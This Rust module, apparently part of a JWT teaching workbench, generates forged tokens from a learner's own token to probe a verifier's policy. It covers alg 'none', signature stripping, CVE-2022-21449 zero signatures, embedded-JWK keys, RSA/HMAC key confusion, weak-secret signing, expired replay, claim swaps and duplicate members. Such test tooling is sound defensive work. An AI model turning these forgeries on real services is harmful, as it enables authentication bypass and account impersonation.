//! What an attacker makes of a learner's own token.

use super::Stand;
use super::forge::Attack;
use crate::cast::rsa_demo_key;
use crate::keys::{Alg, Family, Key, Material, Origin, Progress, Search, SigningKey, base64url};
use crate::sim::Random;
use crate::validate::jwt::{Policy, Token, lenient_base64url};
use crate::words::{lets_in as words, search as search_words};
use crate::workbench::jwt;
use rand_core::SeedableRng;
use serde_json::{Map, Value, json};

/// A token that she writes for herself says this, where nothing else is asked for.
const HER_NAME: &str = "mallory";
/// What she writes is good for this long, seconds.
const HER_LIFE_S: i64 = 3600;
/// She signs with this where no candidate is the secret.
const HER_GUESS: &str = "secret";
/// An old token is shown this long after its end, seconds.
const LATE_S: i64 = 86_400;
/// Her keys are made from this and the moment, so that they are nobody else's.
const HER_SEED: u64 = 0x006d_616c_6c6f_7279;

/// A token to put to the box, and when.
pub struct Made {
    pub token: String,
    pub now_s: i64,
}

/// Why there is nothing to put to the box.
pub enum Lack {
    /// It takes whoever signs.
    Signer,
    /// One sentence.
    Because(String),
}

/// The attacker, with the learner's token in her hands and all that is public of the policy.
pub struct Forger {
    pub token: Token,
    policy: Policy,
    now_s: i64,
    random: Random,
}

impl Forger {
    pub fn of(stand: &Stand) -> Result<Self, Lack> {
        let read = jwt::read(&stand.entries);
        let (token, policy) = read.ok_or_else(|| Lack::Because(words::nothing_tried()))?;
        Ok(Self {
            token: Token::read(&token),
            policy,
            now_s: stand.now_s,
            random: Random::seed_from_u64(stand.now_s.unsigned_abs() ^ HER_SEED),
        })
    }

    pub fn variants(&self, attack: Attack, searched: Option<&Progress>) -> Result<Vec<Made>, Lack> {
        let tokens = match attack {
            Attack::AlgNone => vec![self.unsigned("none", &[])],
            Attack::Stripped => vec![self.unsigned(&self.own_alg(), &[])],
            Attack::Tampered => vec![self.unsigned(&self.own_alg(), &self.token.signature())],
            Attack::ZeroSignature => self.zero_signatures()?,
            Attack::EmbeddedJwk => self.with_own_key()?,
            Attack::KeyConfusion => self.with_public_key_as_secret()?,
            Attack::WeakSecret => self.with_searched_secret(searched)?,
            Attack::Expired => return Ok(vec![self.late()?]),
            Attack::Audience => self.signed(|_, claims| claims["aud"] = "another-api".into())?,
            Attack::Issuer => {
                self.signed(|_, claims| claims["iss"] = "https://another-issuer.example".into())?
            }
            Attack::IdToken => self.signed(|header, _| header["typ"] = "JWT".into())?,
            Attack::CritIgnored => self.signed(|header, _| {
                header["crit"] = json!(["only-from"]);
                header["only-from"] = "192.0.2.1".into();
            })?,
            Attack::DuplicateMember => self.with_member_twice()?,
        };
        let made = |token| Made {
            token,
            now_s: self.now_s,
        };
        Ok(tokens.into_iter().map(made).collect())
    }

    /// The token's own word for its algorithm.
    fn own_alg(&self) -> String {
        let alg = self.token.header.get("alg").and_then(Value::as_str);
        alg.unwrap_or("ES256").to_owned()
    }

    /// The learner's header under another algorithm, of the type that the server asks for.
    fn header(&self, alg: &str) -> Value {
        let mut header = self.token.header.clone();
        header.insert("alg".into(), alg.into());
        if let Some(typ) = &self.policy.typ {
            header.insert("typ".into(), typ.as_str().into());
        }
        header.into()
    }

    /// The learner's claims as she would have them: her own name, all that the server asks for,
    /// and an end to come.
    fn claims(&self) -> Value {
        let payload = lenient_base64url(self.token.segment(1));
        let mut claims: Map<String, Value> = serde_json::from_slice(&payload).unwrap_or_default();
        let asked = [
            ("iss", &self.policy.issuer),
            ("aud", &self.policy.audience),
            ("scope", &self.policy.scope),
        ];
        for (name, value) in asked {
            if let Some(value) = value {
                claims.insert(name.into(), value.as_str().into());
            }
        }
        for date in ["nbf", "iat"] {
            claims.remove(date);
        }
        claims.insert("exp".into(), self.now_s.saturating_add(HER_LIFE_S).into());
        claims.insert("jti".into(), "another".into());
        claims.insert("sub".into(), HER_NAME.into());
        claims.into()
    }

    /// Her claims with a signature that nobody made for them.
    fn unsigned(&self, alg: &str, signature: &[u8]) -> String {
        let part = |value: &Value| base64url(value.to_string().as_bytes());
        let (header, claims) = (self.header(alg), self.claims());
        let signature = base64url(signature);
        format!("{}.{}.{signature}", part(&header), part(&claims))
    }

    /// CVE-2022-21449: r = 0 and s = 0.
    fn zero_signatures(&self) -> Result<Vec<String>, Lack> {
        let of = |alg: Alg| match alg.family() {
            Family::Ec(curve) => {
                let zeros = vec![0; 2 * curve.width()];
                Some(self.unsigned(alg.name(), &zeros))
            }
            _ => None,
        };
        let made: Vec<_> = self.algs().into_iter().filter_map(of).collect();
        if made.is_empty() {
            return Err(Lack::Because(words::no_ecdsa()));
        }
        Ok(made)
    }

    /// Those that the server verifies with.
    fn keys(&self) -> &[Key] {
        let set = self.policy.keys.as_ref();
        set.map_or(&[], |set| &set.keys)
    }

    /// The algorithms that the server lists; where it lists none, every one.
    fn algs(&self) -> Vec<Alg> {
        let listed = self.policy.algs.as_ref();
        let lists =
            |alg: &Alg| listed.is_none_or(|list| list.iter().any(|name| name == alg.name()));
        let mut algs: Vec<Alg> = Alg::ALL.into_iter().filter(lists).collect();
        if algs.is_empty() {
            algs.push(Alg::ES256);
        }
        algs
    }

    fn sign(&self, key: &SigningKey, alg: Alg, header: &Value, claims: &Value) -> Option<String> {
        key.sign_compact(alg, header, claims, &mut self.random.clone())
    }

    /// Signed with a key of her own, which stands in the header.
    fn with_own_key(&self) -> Result<Vec<String>, Lack> {
        let mut made = Vec::new();
        for alg in self.algs() {
            let key = match alg.family() {
                Family::Rsa => rsa_demo_key().filter(|key| !self.is_issuers(key)),
                _ => SigningKey::generate(alg, &mut self.random.clone()),
            };
            let Some(key) = key else { continue };
            let mut header = self.header(alg.name());
            header["jwk"] = match &key {
                SigningKey::Secret(secret) => json!({"kty": "oct", "k": base64url(secret)}),
                other => other.public_jwk("hers", alg).unwrap_or_default(),
            };
            made.extend(self.sign(&key, alg, &header, &self.claims()));
            // One of a kind will do: what follows differs in its hash alone.
            if made.len() == 3 {
                break;
            }
        }
        if made.is_empty() {
            return Err(Lack::Because(words::no_other_rsa_key()));
        }
        Ok(made)
    }

    /// Whether the server trusts this key already.
    fn is_issuers(&self, key: &SigningKey) -> bool {
        let material = key.public(Origin::TokenHeader).material;
        self.keys().iter().any(|key| key.material == material)
    }

    /// Each of the server's public keys as the text of an HMAC secret.
    fn with_public_key_as_secret(&self) -> Result<Vec<String>, Lack> {
        let public: Vec<_> = self
            .keys()
            .iter()
            .filter_map(|key| key.material.to_spki_pem())
            .collect();
        if public.is_empty() {
            return Err(Lack::Because(words::no_public_key()));
        }
        let hmacs: Vec<Alg> = self
            .algs()
            .into_iter()
            .filter(|alg| alg.family() == Family::Hmac)
            .collect();
        let hmacs = if hmacs.is_empty() {
            vec![Alg::HS256]
        } else {
            hmacs
        };
        let each = public.into_iter().flat_map(|pem| {
            let key = SigningKey::Secret(pem.into_bytes());
            let hmacs = hmacs.clone().into_iter();
            hmacs.filter_map(move |alg| {
                self.sign(&key, alg, &self.header(alg.name()), &self.claims())
            })
        });
        Ok(each.collect())
    }

    /// Signed with the token's own secret, where the search has found it, or else with a guess.
    fn with_searched_secret(&self, searched: Option<&Progress>) -> Result<Vec<String>, Lack> {
        let search = Search::new(&self.token.text)
            .map_err(|fault| Lack::Because(search_words::fault(&fault)))?;
        let begun = search.progress();
        let searched = searched.unwrap_or(&begun);
        if !searched.is_over() {
            return Err(Lack::Because(search_words::came_to(searched)));
        }
        let secret = searched.found.as_deref().unwrap_or(HER_GUESS);
        let key = SigningKey::Secret(secret.as_bytes().to_vec());
        let own = Alg::named(&self.own_alg());
        let signed =
            own.and_then(|alg| self.sign(&key, alg, &self.header(alg.name()), &self.claims()));
        Ok(signed.into_iter().collect())
    }

    /// The learner's own token, long after its end.
    // Seconds beyond 2^53 lose their last digits here; such an end no clock comes to.
    #[allow(clippy::cast_possible_truncation, clippy::cast_precision_loss)]
    fn late(&self) -> Result<Made, Lack> {
        let payload = lenient_base64url(self.token.segment(1));
        let claims: Value = serde_json::from_slice(&payload).unwrap_or_default();
        let exp = claims.get("exp").and_then(Value::as_f64).unwrap_or(0.0);
        let late_s = i64::from(self.policy.leeway_s).saturating_add(LATE_S);
        let now_s = self.now_s.max(exp as i64).saturating_add(late_s);
        if exp + f64::from(self.policy.leeway_s) >= now_s as f64 {
            return Err(Lack::Because(words::never_ends()));
        }
        Ok(Made {
            token: self.token.text.clone(),
            now_s,
        })
    }

    /// What somebody signed whom the server trusts. That can be made only where the learner holds
    /// the key that signs, which is so for a shared secret.
    fn signed(&self, change: impl Fn(&mut Value, &mut Value)) -> Result<Vec<String>, Lack> {
        self.with_issuers_secret(|forger, key, alg| {
            let (mut header, mut claims) = (forger.header(alg.name()), forger.claims());
            change(&mut header, &mut claims);
            forger.sign(key, alg, &header, &claims)
        })
    }

    /// The first reader of the payload meets another subject than the last.
    fn with_member_twice(&self) -> Result<Vec<String>, Lack> {
        self.with_issuers_secret(|forger, key, alg| {
            let rest = forger.claims().to_string();
            let payload = format!("{{\"sub\":\"user_001\",{}", rest.strip_prefix('{')?);
            let header = forger.header(alg.name()).to_string();
            let input = [header, payload]
                .map(|part| base64url(part.as_bytes()))
                .join(".");
            let signature = key.sign(alg, input.as_bytes(), &mut forger.random.clone())?;
            Some(format!("{input}.{}", base64url(&signature)))
        })
    }

    fn with_issuers_secret(
        &self,
        make: impl Fn(&Self, &SigningKey, Alg) -> Option<String>,
    ) -> Result<Vec<String>, Lack> {
        let secrets = self.keys().iter().filter_map(|key| match &key.material {
            Material::Secret(secret) => Some(SigningKey::Secret(secret.clone())),
            _ => None,
        });
        let secrets: Vec<_> = secrets.collect();
        let own = Alg::named(&self.own_alg()).filter(|alg| alg.family() == Family::Hmac);
        match (own, secrets.is_empty()) {
            (Some(alg), false) => Ok(secrets
                .iter()
                .filter_map(|key| make(self, key, alg))
                .collect()),
            _ => Err(Lack::Signer),
        }
    }
}
